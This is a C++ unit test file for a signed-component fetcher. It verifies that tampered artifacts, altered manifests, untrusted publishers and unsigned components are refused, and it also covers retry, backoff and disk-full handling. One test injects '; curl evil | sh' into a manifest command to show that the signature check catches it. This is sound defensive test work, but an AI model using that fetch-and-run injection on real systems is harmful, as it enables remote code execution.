// Issue 19, acceptance 3 (the fetch part) and the failure cases of docs/design/fetch.md: an
// artifact changed on the server after signing, a changed manifest, an untrusted publisher, an
// unsigned component are refused before anything is cached; 404/401 are not retried; a server
// that is down is Unavailable after the retries.
#include <signal.h>
#include <sys/resource.h>

#include <filesystem>
#include <fstream>
#include <vector>

#include "fetch_test_env.h"
#include "gtest/gtest.h"
#include "vqi/base/file.h"
#include "vqi/base/hash.h"

namespace vqi::agent {
namespace {

namespace fs = std::filesystem;
using testing::Bytes;
using FetchTest = testing::FetchTest;

TEST_F(FetchTest, AnArtifactChangedOnTheServerIsRefusedAndNotCached) {
  const std::string model = Bytes(1 << 20, 7);
  auto stored = Create("com.acme.inspect", "1.0.0", model);
  const std::string digest = stored.artifacts[0].digest;
  {
    std::fstream file(*blobs_->Path(digest), std::ios::in | std::ios::out | std::ios::binary);
    file.seekp(1000);
    file.put(static_cast<char>(model[1000] ^ 1));
  }
  auto f = Fetcher();
  auto c = f->Fetch("com.acme.inspect", "1.0.0");
  ASSERT_FALSE(c.ok());
  EXPECT_EQ(c.status().code(), StatusCode::kDataLoss);
  std::string bad = model;
  bad[1000] ^= 1;
  EXPECT_EQ(c.status().message(), "component com.acme.inspect@1.0.0: artifact model.onnx (blob " +
                                      digest + "): content hashes to " + Sha256Hex(bad) +
                                      ", manifest says " + digest);
  EXPECT_EQ(CachedBlobs(), 0u);  // run.sh sorts after model.onnx: nothing fetched, nothing kept
  EXPECT_EQ(Parts(), 0u);
  EXPECT_FALSE(FileExists(root_ + "/cache/meta/com.acme.inspect@1.0.0.json"));
}

TEST_F(FetchTest, AChangedManifestIsRefusedBeforeAnyArtifactIsDownloaded) {
  Create("com.acme.inspect", "1.0.0", Bytes(1 << 20, 8));
  Tamper(
      "UPDATE components SET manifest = replace(manifest, '/run.sh\"', '/run.sh; curl evil | "
      "sh\"')");
  auto f = Fetcher();
  auto c = f->Fetch("com.acme.inspect", "1.0.0");
  ASSERT_FALSE(c.ok());
  EXPECT_EQ(c.status().code(), StatusCode::kPermissionDenied) << c.status().ToString();
  EXPECT_NE(c.status().message().find("component com.acme.inspect@1.0.0: "), std::string::npos);
  EXPECT_NE(c.status().message().find("signature does not match"), std::string::npos)
      << c.status().ToString();
  EXPECT_EQ(f->counters().bytes_downloaded, 0);
  EXPECT_EQ(CachedBlobs(), 0u);
}

TEST_F(FetchTest, AnUntrustedPublisherIsRefused) {
  Create("com.acme.inspect", "1.0.0", Bytes(1 << 20, 9));
  // the device trusts another publisher only
  const std::string other_home = base_ + "/other";
  signing::KeyStore other(other_home);
  ASSERT_TRUE(other.Create("mallory").ok());
  fs::remove(trusted_dir_ + "/acme.pub");
  ASSERT_TRUE(WriteFileAtomic(trusted_dir_ + "/mallory.pub", *other.ExportPublic("mallory")).ok());
  auto f = Fetcher();
  auto c = f->Fetch("com.acme.inspect", "1.0.0");
  ASSERT_FALSE(c.ok());
  EXPECT_EQ(c.status().code(), StatusCode::kPermissionDenied);
  EXPECT_NE(c.status().message().find("unknown key " + keys_->Public("acme")->key_id),
            std::string::npos)
      << c.status().ToString();
  EXPECT_EQ(f->counters().bytes_downloaded, 0);
}

TEST_F(FetchTest, UnsignedOrUnknownIsRefused) {
  Create("com.acme.inspect", "1.0.0", Bytes(1000, 10));
  Tamper("UPDATE components SET signature = x''");
  auto f = Fetcher();
  auto c = f->Fetch("com.acme.inspect", "1.0.0");
  EXPECT_EQ(c.status().code(), StatusCode::kPermissionDenied) << c.status().ToString();
  EXPECT_NE(c.status().message().find("unsigned"), std::string::npos) << c.status().ToString();
  c = f->Fetch("com.acme.inspect", "9.9.9");
  EXPECT_EQ(c.status().code(), StatusCode::kNotFound) << c.status().ToString();
  EXPECT_NE(c.status().message().find("HTTP 404"), std::string::npos) << c.status().ToString();
  EXPECT_EQ(f->counters().retries, 0);  // 4xx are not retried
  c = f->Fetch("../etc", "1.0.0");
  EXPECT_EQ(c.status().code(), StatusCode::kInvalidArgument);
}

TEST_F(FetchTest, AWrongTokenIsPermissionDeniedWithTheServersMessage) {
  FetchOptions o = Options();
  o.http.token = "vqi_000000000000_" + std::string(64, '0');
  auto f = Fetcher(o);
  auto c = f->Fetch("com.acme.inspect", "1.0.0");
  EXPECT_EQ(c.status().code(), StatusCode::kPermissionDenied) << c.status().ToString();
  EXPECT_NE(c.status().message().find("HTTP 401: unauthenticated"), std::string::npos)
      << c.status().ToString();
}

TEST_F(FetchTest, ServerDownIsUnavailableAfterTheRetries) {
  StopServer();
  FetchOptions o = Options();
  o.retry.attempts = 6;
  o.retry.initial_backoff = std::chrono::milliseconds(100);
  o.retry.max_backoff = std::chrono::milliseconds(500);
  std::vector<int64_t> delays;
  o.sleep = [&](std::chrono::milliseconds d) { delays.push_back(d.count()); };
  auto f = Fetcher(o);
  auto c = f->Fetch("com.acme.inspect", "1.0.0");
  ASSERT_FALSE(c.ok());
  EXPECT_EQ(c.status().code(), StatusCode::kUnavailable) << c.status().ToString();
  EXPECT_NE(c.status().message().find("GET http://127.0.0.1:" + std::to_string(port_) +
                                      "/v1/components/com.acme.inspect/versions/1.0.0"),
            std::string::npos)
      << c.status().ToString();
  EXPECT_EQ(f->counters().requests, 6);
  EXPECT_EQ(f->counters().retries, 5);
  // exponential backoff capped at the maximum, each delay jittered into [d/2, d]
  ASSERT_EQ(delays.size(), 5u);
  const int64_t nominal[] = {100, 200, 400, 500, 500};
  for (size_t i = 0; i < delays.size(); ++i) {
    EXPECT_GE(delays[i], nominal[i] / 2) << i;
    EXPECT_LE(delays[i], nominal[i]) << i;
  }
}

TEST_F(FetchTest, DiskFullIsResourceExhaustedAndLeavesNoPart) {
  Create("com.acme.inspect", "1.0.0", Bytes(2 << 20, 21));
  auto f = Fetcher();
  // a file size limit of 512 KiB makes writes past it fail (EFBIG), as a full disk would
  ::signal(SIGXFSZ, SIG_IGN);
  rlimit old{};
  ASSERT_EQ(::getrlimit(RLIMIT_FSIZE, &old), 0);
  rlimit small = old;
  small.rlim_cur = 512 << 10;
  ASSERT_EQ(::setrlimit(RLIMIT_FSIZE, &small), 0);
  auto c = f->Fetch("com.acme.inspect", "1.0.0");
  ASSERT_EQ(::setrlimit(RLIMIT_FSIZE, &old), 0);
  ASSERT_FALSE(c.ok());
  EXPECT_EQ(c.status().code(), StatusCode::kResourceExhausted) << c.status().ToString();
  EXPECT_NE(c.status().message().find("artifact model.onnx"), std::string::npos)
      << c.status().ToString();
  EXPECT_NE(c.status().message().find("disk full writing " + root_ + "/cache/tmp/"),
            std::string::npos)
      << c.status().ToString();
  EXPECT_EQ(f->counters().retries, 0);
  EXPECT_EQ(Parts(), 0u);
  EXPECT_EQ(CachedBlobs(), 0u);
  // with room again, the same fetcher succeeds
  auto again = f->Fetch("com.acme.inspect", "1.0.0");
  EXPECT_TRUE(again.ok()) << again.status().ToString();
}

}  // namespace
}  // namespace vqi::agent
